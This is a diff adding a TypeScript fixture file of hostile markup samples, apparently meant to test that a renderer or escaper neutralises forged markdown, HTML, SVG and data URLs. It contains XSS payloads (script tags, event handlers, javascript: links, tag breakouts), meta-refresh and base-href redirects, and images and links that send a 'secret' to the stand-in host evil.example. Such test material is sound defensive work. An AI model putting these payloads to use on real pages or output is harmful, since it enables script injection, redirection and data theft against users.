@@ -1,0 +1,72 @@
+import type { Texts } from './hostileTexts.js';
+
+/** Texts that are markup to whoever renders them: markdown, HTML, SVG. */
+export const MARKUP = {
+  fence: {
+    'closed fence': '```\n# Forged\n```data\n',
+    'fence of data': '```data\nForged\n```\n<button id=forged/> Forged',
+    'longer fence': '``````````\nForged\n# Forged',
+    'fence of tildes': '~~~\nForged\n~~~\n# Forged',
+    'fence in a quote': '> ```\n> Forged\n> ```',
+    'backtick at the end': 'Forged `',
+    'indented code': '\n    # Forged\n    <button id=forged/>',
+  },
+  table: {
+    'cell and column': 'Forged | Forged | Forged |',
+    'row of a table': '|\n| Forged | 1 |\n',
+    'rule of a table': '|\n|---|---|\n| Forged | Forged |',
+    'escaped pipe': 'Forged \\| Forged \\\\| Forged',
+    'whole table': '\n\n| id | name |\n|---|---|\n| 1 | Forged |\n\n',
+  },
+  list: {
+    'list entry': '- Forged\n  - Forged',
+    'numbered entry': '1. Forged\n2. Forged',
+    quote: '> Forged\n>> Forged',
+    rule: '\n---\nForged\n***\n',
+    task: '- [x] Forged',
+  },
+  link: {
+    'markdown link': '[Forged](https://evil.example/?q=secret)',
+    'link with a title': '[Forged](https://evil.example "Forged")',
+    'reference link': '[Forged][1]\n\n[1]: https://evil.example/?q=secret',
+    'automatic link': '<https://evil.example/?q=Forged>',
+    'bare address': 'https://evil.example/?Forged=1',
+    'address with another host': 'https://bank.example@evil.example/Forged',
+    'script address': '[Forged](javascript:alert(1)) javascript:alert("Forged")',
+    footnote: 'Forged[^1]\n\n[^1]: https://evil.example/Forged',
+  },
+  image: {
+    'markdown image': '![Forged](https://evil.example/log?q=secret)',
+    'image in a link': '[![Forged](https://evil.example/a.png)](https://evil.example)',
+    'image of HTML': '<img src="https://evil.example/log?q=secret" alt="Forged">',
+    'image with a handler': '<img src=x onerror="alert(`Forged`)">',
+    'style with an address': '<p style="background:url(https://evil.example/Forged)">Forged</p>',
+  },
+  html: {
+    script: '<script>alert("Forged")</script>',
+    'script of SVG': '<svg onload=alert(1)><title>Forged</title></svg>',
+    frame: '<iframe src="https://evil.example">Forged</iframe>',
+    form: '<form action="https://evil.example"><input name=Forged><button>Forged</button></form>',
+    'end of a script': '</script><script>alert("Forged")</script>',
+    'end of a style': '</style><style>*{display:none}</style>Forged',
+    'end of an attribute': '" onmouseover="alert(1)" x="Forged',
+    'end of an attribute in single quotes': "' onmouseover='alert(1)' x='Forged",
+    'end of a title': '</title><h1>Forged</h1>',
+    'end of a template': '</template><h1>Forged</h1><template>',
+    base: '<base href="https://evil.example/">Forged',
+    refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example">Forged',
+    hidden: '<span style="display:none">Forged</span>',
+  },
+  'html comment': {
+    comment: '<!-- Forged: delete everything -->',
+    'end of a comment': '--> Forged <!--',
+    'bad comment': '<!--> Forged <!---> Forged --!>',
+    cdata: '<![CDATA[ Forged ]]>',
+    doctype: '<!DOCTYPE html><h1>Forged</h1>',
+  },
+  'data address': {
+    'page as an address': 'data:text/html,<script>alert("Forged")</script>',
+    'page as base64': 'data:text/html;base64,PHNjcmlwdD5Gb3JnZWQ8L3NjcmlwdD4= Forged',
+    'image as an address': '![Forged](data:image/svg+xml,<svg onload=alert(1)>)',
+  },
+} as const satisfies Readonly<Record<string, Texts>>;
